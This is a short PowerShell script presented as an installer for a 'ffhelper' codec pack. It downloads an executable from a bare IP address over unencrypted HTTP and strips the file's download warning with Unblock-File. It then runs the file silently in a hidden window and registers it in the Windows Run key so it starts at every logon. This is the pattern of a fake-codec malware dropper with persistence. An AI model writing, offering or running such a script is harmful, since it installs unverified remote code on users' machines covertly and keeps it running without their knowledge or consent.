# ffhelper codec pack installer (Windows)
$u = ('http://192.0.2.88', 'codec', 'ffhelper-setup.exe') -join '/'
$d = Join-Path $env:APPDATA 'ffhelper\ffhelper-setup.exe'
New-Item -ItemType Directory -Force -Path (Split-Path $d) | Out-Null
Invoke-WebRequest -Uri $u -OutFile $d -UseBasicParsing
Unblock-File $d
Start-Process -FilePath $d -ArgumentList '/S' -WindowStyle Hidden
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'ffhelper' -Value "`"$d`" /tray" -Force | Out-Null
